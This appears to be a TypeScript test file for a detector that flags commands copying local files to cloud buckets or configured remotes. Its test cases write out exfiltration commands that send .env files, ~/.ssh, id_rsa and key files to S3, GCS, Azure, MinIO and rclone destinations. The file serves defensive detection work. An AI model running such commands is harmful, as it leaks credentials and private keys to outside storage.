import { describe, expect, it } from 'vitest';
import { bucketCopy } from '../../src/extract/exfil-buckets.js';
import { command } from '../helpers/command.js';

const copies = (argv: string[]) => bucketCopy(command(argv)).map((t) => [t.sink, t.host, t.files.join(',')]);

describe('local files copied to a bucket or a configured remote', () => {
  it.each<[string[], string[][]]>([
    [['aws', 's3', 'cp', '.env', 's3://drop/x'], [['aws s3 cp', 's3://drop', '.env']]],
    [
      ['aws', 's3', 'sync', '--exclude', '*.tmp', '~/.ssh', 's3://drop/k'],
      [['aws s3 sync', 's3://drop', '~/.ssh']],
    ],
    [['rclone', 'copy', '~/.ssh', 'remote:keys'], [['rclone copy', 'remote', '~/.ssh']]],
    [['gsutil', 'cp', 'key.json', 'gs://b/'], [['gsutil cp', 'gs://b', 'key.json']]],
    [['gcloud', 'storage', 'cp', 'a.pem', 'gs://b/x'], [['gcloud storage cp', 'gs://b', 'a.pem']]],
    [['mc', 'cp', '.env', 'myminio/drop'], [['mc cp', 'myminio', '.env']]],
    [
      ['azcopy', 'copy', 'id_rsa', 'https://acct.blob.core.windows.net/c'],
      [['azcopy copy', 'acct.blob.core.windows.net', 'id_rsa']],
    ],
    // from a bucket, between local folders, listings
    [['aws', 's3', 'cp', 's3://b/k', './k'], []],
    [['aws', 's3', 'ls', 's3://b'], []],
    [['rclone', 'copy', './a', './b'], []],
    [['rclone', 'copy', 'remote:a', './b'], []],
    [['mc', 'ls', 'myminio/drop'], []],
  ])('%o → %o', (argv, want) => expect(copies(argv)).toEqual(want));
});
